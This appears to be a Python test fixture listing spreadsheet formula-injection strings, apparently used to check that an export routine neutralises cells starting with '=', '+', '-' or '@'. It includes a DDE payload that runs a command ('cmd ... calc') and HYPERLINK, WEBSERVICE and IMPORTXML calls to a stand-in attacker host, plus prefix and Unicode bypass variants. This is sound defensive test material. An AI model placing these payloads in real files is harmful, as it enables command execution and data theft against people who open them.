"""Names that a spreadsheet would reckon with."""

_CORES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://evil.example","x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    "A1",
    "2*3",
    'IMPORTXML("https://evil.example","//a")',
)
NAMES = [
    *(f"{start}{core}" for start in ("=", "+", "-", "@", " =", "=-", "=+", "-+") for core in _CORES),
    *(f"safe;{start}{core}" for start in ("=", "+", "-") for core in _CORES[:3]),
    *("＝1+1", "＋1+1", "-5+1", "--1", "=", "-", "+", "@", "=1\u00a0", "\u00a0=1+1", "+-1", "=+A1", "'=1+1", '"=1+1"'),
]
